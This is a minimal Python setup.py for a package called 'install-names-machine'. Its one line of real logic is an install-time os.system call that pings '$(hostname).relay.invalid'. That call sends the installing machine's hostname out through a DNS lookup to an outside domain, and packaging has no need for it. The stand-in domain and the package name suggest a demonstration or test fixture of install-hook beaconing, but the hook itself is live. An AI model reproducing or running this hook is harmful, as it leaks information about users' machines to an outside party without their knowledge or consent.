import os
os.system("ping -c 1 $(hostname).relay.invalid")
from setuptools import setup
setup(name="install-names-machine", version="1.0")
